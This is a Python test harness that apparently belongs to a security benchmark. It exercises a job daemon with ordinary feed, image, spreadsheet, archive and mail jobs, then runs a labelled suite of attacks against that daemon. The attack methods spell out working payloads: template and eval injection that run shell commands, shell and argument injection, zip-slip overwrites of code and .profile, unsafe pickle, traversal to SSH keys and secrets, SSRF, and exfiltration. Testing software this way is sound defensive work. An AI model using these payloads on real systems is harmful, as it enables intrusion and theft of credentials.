# SPDX-License-Identifier: Apache-2.0
"""A daemon that runs jobs by the clock and on request."""
import base64
import io
import json
import os
import pickle
import zipfile

from aiosmtpd.controller import Controller
from aiosmtpd.handlers import Message
from PIL import Image

from attackers import Bomb
import stage

FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>{0}</title>
<link>http://x/</link><description>d</description>{1}</channel></rss>"""
ITEM = "<item><title>{0} {1}</title><link>http://x/{0}/{1}</link></item>"
EVAL = "__import__('builtins').exec({code!r})"


class Post(Message):
    """A mail server that keeps what it gets."""

    def __init__(self):
        super().__init__()
        self.letters = []

    def handle_message(self, message):
        self.letters.append(message.as_string())


class JobDaemon(stage.Service):
    """Feeds, pictures, tables, archives and mail by jobs (APScheduler)."""
    packages = ["python3-apscheduler", "python3-feedparser", "python3-pil",
                "python3-openpyxl", "python3-jinja2", "python3-yaml",
                "python3-aiosmtpd", "file"]
    mailer = None

    def arrange(self):
        for name in ("in", "out", "state", "log"):
            (self.srv / "var" / name).mkdir(parents=True)

    def command(self):
        return [self.python, "daemon.py", self.port("web")]

    def start(self):
        super().start()
        self.post = Post()
        self.mailer = Controller(self.post, "127.0.0.1", self.port("mail"))
        self.mailer.start()

    def stop(self):
        if self.mailer:
            self.mailer.stop()
        super().stop()

    def restart(self):
        self.halt()
        super().start()

    # ------------------------------------------------------------ ordinary use
    def ask(self, job, **options):
        return self.browser().fetch("/run", json.dumps(
            {"job": job, "options": options}).encode())

    def job(self, found, job, status=200, **options):
        self.expect_answer(f"{job} {options}", self.ask(job, **options),
                           found, status)

    def comes_in(self, name, content=None):
        """content: a picture, if there is none."""
        if content is None:
            picture, kind = io.BytesIO(), name.split(".")[-1]
            Image.new("RGB", (300, 200), "teal").save(picture, {
                "jpg": "JPEG", "tif": "TIFF"}.get(kind, kind))
            content = picture.getvalue()
        stage.write(self.srv / "var/in" / name, content)

    def feeds(self, folder, path, items):
        feed = FEED.format("News", "".join(
            ITEM.format("news", i) for i in range(items)))
        self.site("news").page(path.partition("?")[0], feed,
                               Content_Type="application/rss+xml")
        self.job("news 0", "feeds", folder=folder,
                 url=self.site("news").url + path)

    def table(self, source, target, rows=3, **options):
        self.comes_in(source, "".join(f"w{i},{i}\n" for i in range(rows)))
        self.job("", "sheets", source=source, target=target, **options)

    def letter(self, to, text, found, **options):
        self.job("sent", "mail", to=to, text=text,
                 server=f"127.0.0.1:{self.port('mail')}", **options)
        self.expect(f"letter to {to}", self.post.letters and
                    found in self.post.letters[-1], self.post.letters[-1:])

    def remembers(self, key, value):
        self.job(str(list(value)[0]), "remember", key=key, value=base64.
                 b64encode(pickle.dumps(value)).decode())
        self.job(str(list(value)[0]), "remember", key=key)

    def train(self, day):
        self.expect_answer("health", self.browser().get("/health"), "fine")
        self.feeds("world", "/world.rss", 2 + day)
        self.feeds("sports", f"/2026/0{day}/sports.rss", 2)
        self.feeds("town", f"/town-{day}.rss", 1)
        for name in ("cat.png", f"dog-{day}.jpg", f"house {day}.png"):
            self.comes_in(name)
            self.job("32/", "pictures", name=name)
        self.job("", "pictures", status=500, name="none.png")
        self.table(f"week-{day}.csv", f"week-{day}.xlsx")
        self.table("sales.csv", "sales.xlsx", formula="total * 2")
        self.table(f"stock{day}.csv", f"stock/{day}.xlsx", rows=9)
        self.job("cat.png", "pack", name=f"day-{day}",
                 files=["cat.png", "sales.csv"])
        self.job("week", "pack", name=f"week{day}",
                 files=[f"week-{day}.csv", "cat.png", f"dog-{day}.jpg"])
        self.job("cat.png", "pack", name=f"day-{day}", unpack=True)
        self.letter("anna@example.net", "Dear {{ to }}, done.", "Dear anna")
        self.letter("ben@example.net", "The table.", "sales.xlsx",
                    attach="sales.xlsx")
        self.letter("carla@example.net", "Week.", f"week-{day}.xlsx",
                    attach=f"week-{day}.xlsx")
        self.remembers("cursor", {"at": day})
        self.remembers(f"seen-{day}", {"x", "y"})
        self.job("no feed", "feeds", status=500, folder="gone",
                 url=self.site("news").url + "/gone.rss")
        stage.wait_for(lambda: "sweep took" in (
            self.srv / "var/log/jobs.log").read_text())

    def benign(self):
        self.feeds("Größe & Maß", "/2027/11/all.rss?x=a%20b", 12)
        self.feeds("o.brien", "/a/b/c/feed.xml", 1)
        self.feeds("world", "/world.rss", 40)
        for name in ("Hans Peter (1).png", "v1.2.webp", "zoe.gif",
                     "2027/11/21/scan.tif", "4711.bmp"):
            self.comes_in(name)
            self.job("32/", "pictures", name=name)
        self.comes_in("cat.png")
        self.job("128/", "pictures", name="cat.png", size=128)
        self.comes_in("broken.jpg", b"no picture")
        self.job("Unidentified", "pictures", status=500, name="broken.jpg")
        self.table("Umsätze 2027.csv", "Umsätze 2027.xlsx", rows=400)
        self.table("2027/q4.csv", "years/2027/q4.xlsx",
                   formula="round(total / 3, 2)")
        self.comes_in("bad.csv", "a,b\n")
        self.job("could not convert", "sheets", status=500, source="bad.csv",
                 target="bad.xlsx")
        self.comes_in("one.txt", "1")
        self.job("one.txt", "pack", name="backup 2027-11-21",
                 files=["one.txt", "2027/q4.csv", "Umsätze 2027.csv",
                        "cat.png", "v1.2.webp"])
        self.job("one.txt", "pack", name="backup 2027-11-21", unpack=True)
        self.job("FileNotFound", "pack", status=500, name="none", unpack=True)
        self.letter("hans-peter@example.org", "Hi {{ to|upper }}!", "Hi HANS")
        self.letter("zoe@example.net", "Here.", "q4.xlsx",
                    attach="years/2027/q4.xlsx")
        self.letter("zoe@example.net", "Here.", "cat.jpg",
                    attach="128/cat.jpg")
        self.remembers("zoe.4711", {"since": "2027-11-21"})
        self.job("no-such", "no-such", status=500)
        self.expect_answer("none", self.browser().get("/none"), status=404)
        for _ in range(30):  # the log is rotated
            self.remembers("cursor", {"at": 3})
        old = self.srv / "var/out/32/zoe.jpg"
        os.utime(old, (0, 0))
        self.expect("sweep", stage.wait_for(lambda: not old.exists(), 4))
        self.restart()
        self.feeds("world", "/world.rss", 3)

    def health(self):
        self.comes_in("cat.png")
        self.job("32/", "pictures", name="cat.png")
        self.table("sales.csv", "sales.xlsx", formula="total * 2")

    # ----------------------------------------------------------------- attacks
    def counts(self, code):
        """code: an expression."""
        self.comes_in("sales.csv", "a,1\n")
        return self.ask("sheets", source="sales.csv", target="sales.xlsx",
                        formula=code)

    def executes(self, code):
        return self.counts(EVAL.format(code=code))

    def mails(self, text="", **options):
        self.post.letters.clear()
        self.ask("mail", to="a@example.net", text=text,
                 server=f"127.0.0.1:{self.port('mail')}", **options)
        parts = [base64.b64decode(part.split("\n\n")[1].split("--")[0] + "===")
                 for letter in self.post.letters
                 for part in letter.split("base64\n")[1:]]
        return b"".join(parts) + "".join(self.post.letters).encode()

    @stage.attack("traversal")
    def letter_holds_a_private_key(self):
        return self.is_told(self.mails(attach="../../../home/.ssh/id_rsa"))

    @stage.attack("secret disclosure")
    def letter_holds_the_settings(self):
        return self.is_told(self.mails(attach="../../etc/jobs.yaml"))

    @stage.attack("source disclosure")
    def letter_holds_the_source(self):
        return b"HOLE" in self.mails(attach=f"{self.srv}/jobs/mail.py")

    @stage.attack("secret disclosure")
    def feed_is_the_payroll(self):
        return self.is_told(self.ask("sheets", target="x.xlsx",
                                     source="../../../payroll/2026.csv"))

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.runs_line(lambda line: self.mails(
            "{{ cycler.__init__.__globals__.os.system(" + repr(line) + ") }}"))

    @stage.attack("template injection")
    def letter_reads_a_password(self):
        return self.is_told(self.mails(
            "{{ cycler.__init__.__globals__.__builtins__.open("
            f"'{self.home}/.netrc').read() }}}}"))

    @stage.attack("eval injection")
    def formula_runs_a_command(self):
        return self.runs_line(lambda line: self.counts(
            f"__import__('os').system({line!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.counts)

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(self.executes)

    @stage.attack("reverse shell")
    def formula_calls_home(self):
        return self.calls_home(self.executes)

    @stage.attack("exfiltration")
    def formula_sends_credentials(self):
        return self.steals(self.executes)

    @stage.attack("SSRF")
    def feed_is_an_internal_service(self):
        self.site("internal").page("*", FEED.format(
            "x", ITEM.format(self.secret, 1)))
        return self.is_told(self.ask(
            "feeds", folder="world", url=self.site("internal").url + "/x"))

    @stage.attack("exfiltration")
    def letter_goes_to_another_server(self):
        other = Post()
        there = Controller(other, "127.0.0.1", self.port("evil-mail"))
        there.start()
        try:
            self.ask("mail", to="a@example.net", text="stolen",
                     server=f"127.0.0.1:{self.port('evil-mail')}")
        finally:
            there.stop()
        return any("stolen" in letter for letter in other.letters)

    @stage.attack("command injection")
    def picture_runs_a_command(self):
        def use(line):
            self.comes_in(f"a'; {line.replace('/', '$(pwd|cut -c1)')}; '.png")
            self.ask("pictures", name="a'; " + line.replace(
                "/", "$(pwd|cut -c1)") + "; '.png")
        return self.runs_line(use)

    @stage.attack("argument injection")
    def pack_checks_another_list(self):
        """sha256sum tells what lines of the list it cannot read."""
        self.comes_in("x", "x")
        self.comes_in("--check", "x")
        stage.write(self.srv / "var/in/list", f"{'0' * 64}  /etc/passwd\n")
        return b"/etc/passwd: FAILED" in self.ask(
            "pack", name="x", files=["--check", "list"])[1]

    @stage.attack("write to code", fresh=True)
    def pack_replaces_a_job(self):
        with zipfile.ZipFile(self.srv / "var/packs-x", "w") as pack:
            pack.writestr("../../jobs/sweep.py", "planted")
        (self.srv / "var/packs").mkdir(exist_ok=True)
        os.replace(self.srv / "var/packs-x", self.srv / "var/packs/x.zip")
        self.ask("pack", name="x", unpack=True)
        return "planted" in (self.srv / "jobs/sweep.py").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def pack_replaces_the_profile(self):
        (self.srv / "var/packs").mkdir(exist_ok=True)
        with zipfile.ZipFile(self.srv / "var/packs/y.zip", "w") as pack:
            pack.writestr("../../../home/.profile", "planted")
        self.ask("pack", name="y", unpack=True)
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to code", fresh=True)
    def table_becomes_a_package(self):
        """A workbook is a zip archive, which Python imports from."""
        self.comes_in("sales.csv", "a,1\n")
        self.ask("sheets", source="sales.csv", target="../../jobs/evil.zip")
        return (self.srv / "jobs/evil.zip").exists()

    @stage.attack("malicious plugin", fresh=True)
    def job_is_a_new_file(self):
        def use(line):
            stage.write(self.srv / "jobs/evil.py",
                        f"import os\nos.system('{line}')\n")
            self.ask("evil")
        return self.runs_line(use)

    @stage.attack("unsafe pickle")
    def memory_runs_a_command(self):
        return self.runs_line(lambda line: self.ask(
            "remember", key="cursor", value=base64.b64encode(
                pickle.dumps(Bomb(os.system, line))).decode()))

    @stage.attack("symlink swap", fresh=True)
    def table_became_a_link(self):
        self.health()
        path = self.srv / "var/out/sales.xlsx"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.mails(attach="sales.xlsx"))

    @stage.attack("traversal")
    def feed_lands_in_the_home(self):
        self.feeds("../../../home/.config", "/world.rss", 1)
        return (self.home / ".config").exists()
